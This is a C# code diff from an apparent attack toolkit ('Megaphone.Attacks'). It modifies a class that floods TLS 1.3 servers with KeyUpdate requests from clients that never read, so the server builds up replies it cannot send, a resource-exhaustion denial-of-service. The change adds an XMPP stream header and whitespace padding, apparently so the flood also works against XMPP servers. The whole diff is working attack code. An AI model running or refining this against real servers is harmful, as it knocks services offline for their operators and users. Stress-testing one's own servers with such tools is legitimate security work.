@@ -1,10 +1,11 @@
 using System.Net;
 using System.Net.Sockets;
+using System.Text;
 
 namespace Megaphone.Attacks;
 
 /// <summary>
-/// Requests for key updates (RFC 8446, section 4.6.3) from clients that never read, with a byte of data behind every sixtieth: as many as may
+/// Requests for key updates (RFC 8446, section 4.6.3) from clients that never read, with a byte of white space behind every sixtieth: as many as may
 /// come in a row are not exceeded, and each would be owed an answer that cannot be sent.
 /// </summary>
 internal sealed class UnreadKeyUpdates : CostlyTls
@@ -29,9 +30,10 @@ internal sealed class UnreadKeyUpdates : CostlyTls
     {
         HandmadeTls tls = await HandmadeTls.ConnectAsync(to, keyLog);
         int rounds = (int)(UpdatesPerSecond * length.TotalSeconds) / UpdatesBetweenData;
-        return (tls.Socket, [.. Enumerable.Range(0, rounds).SelectMany(_ => Round(tls))]);
+        byte[] header = tls.Seal(HandmadeTls.ApplicationData, Encoding.ASCII.GetBytes(XmppClient.Header));
+        return (tls.Socket, [.. header, .. Enumerable.Range(0, rounds).SelectMany(_ => Round(tls))]);
     }
 
     private static byte[] Round(HandmadeTls tls) =>
-        [.. tls.SealKeyUpdates(UpdatesBetweenData, ask: true), .. tls.Seal(HandmadeTls.ApplicationData, "x"u8)];
+        [.. tls.SealKeyUpdates(UpdatesBetweenData, ask: true), .. tls.Seal(HandmadeTls.ApplicationData, " "u8)];
 }
